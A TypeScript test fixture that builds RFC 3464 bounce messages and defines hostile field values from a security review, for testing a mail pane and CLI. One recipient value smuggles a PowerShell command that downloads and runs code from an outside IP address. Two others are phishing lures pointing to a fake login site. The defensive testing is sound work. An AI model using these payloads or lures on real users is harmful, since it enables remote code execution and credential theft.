/**
 * Bounces whose fields carry the attacks from issue #12 (an outside review of the built pane and
 * the CLI): shared by the core, UI and CLI tests so that each layer is tried with the same input.
 */

/** A Final-Recipient that is no address: pasting the advice built from it would run a script. */
export const COMMAND_INJECTION = 'jan@fabrikam;iex(irm 198.51.100.7/mx)#';
/** A recipient field that is a lure, meant to become the pane's headline. */
export const LURE =
  'ACTION REQUIRED – your mailbox will be closed today. Sign in at https://login.evil.example/';
/** A Will-Retry-Until that is no date, meant to become "It will keep trying until …". */
export const FAKE_DATE = 'your mailbox password expires today, sign in at https://login.evil.example/';

export interface DsnFields {
  readonly recipient?: string;
  readonly action?: 'failed' | 'delayed';
  readonly status?: string;
  readonly diagnostic?: string;
  readonly remoteMta?: string;
  readonly willRetryUntil?: string;
  readonly subject?: string;
  readonly messageId?: string;
  readonly reportingMta?: string;
  /** Extra lines for the human-readable part. */
  readonly text?: string;
  /** Per-recipient groups beyond the first (each a list of fields). */
  readonly moreRecipients?: readonly DsnFields[];
  /** Extra header lines of the returned original message. */
  readonly originalHeaders?: readonly string[];
}

function recipientGroup(f: DsnFields): string[] {
  return [
    `Final-Recipient: rfc822; ${f.recipient ?? 'jan@fabrikam.example'}`,
    `Action: ${f.action ?? 'failed'}`,
    `Status: ${f.status ?? '5.4.1'}`,
    ...(f.remoteMta ? [`Remote-MTA: dns; ${f.remoteMta}`] : []),
    `Diagnostic-Code: smtp; ${f.diagnostic ?? '550 5.4.1 Relay Access Denied'}`,
    ...(f.willRetryUntil ? [`Will-Retry-Until: ${f.willRetryUntil}`] : []),
    '',
  ];
}

/** An RFC 3464 bounce (multipart/report) with the given fields, CRLF line ends. */
export function dsn(f: DsnFields = {}): string {
  return [
    'From: Mail Delivery System <MAILER-DAEMON@mail.contoso.example>',
    'To: piet@contoso.example',
    `Subject: Undelivered Mail Returned to Sender`,
    'Date: Mon, 12 Mar 2018 11:05:00 +0100',
    'Message-ID: <report-1@mail.contoso.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/report; report-type=delivery-status; boundary="b1"',
    '',
    '--b1',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'This is the mail system at host mail.contoso.example.',
    f.text ?? 'Your message could not be delivered.',
    '',
    '--b1',
    'Content-Type: message/delivery-status',
    '',
    `Reporting-MTA: dns; ${f.reportingMta ?? 'mail.contoso.example'}`,
    '',
    ...recipientGroup(f),
    ...(f.moreRecipients ?? []).flatMap(recipientGroup),
    '--b1',
    'Content-Type: text/rfc822-headers',
    '',
    'From: Piet <piet@contoso.example>',
    'To: jan@fabrikam.example',
    `Subject: ${f.subject ?? 'Offerte'}`,
    `Message-ID: ${f.messageId ?? '<abc@contoso.example>'}`,
    'Date: Mon, 12 Mar 2018 11:04:30 +0100',
    ...(f.originalHeaders ?? []),
    '',
    '--b1--',
    '',
  ].join('\r\n');
}
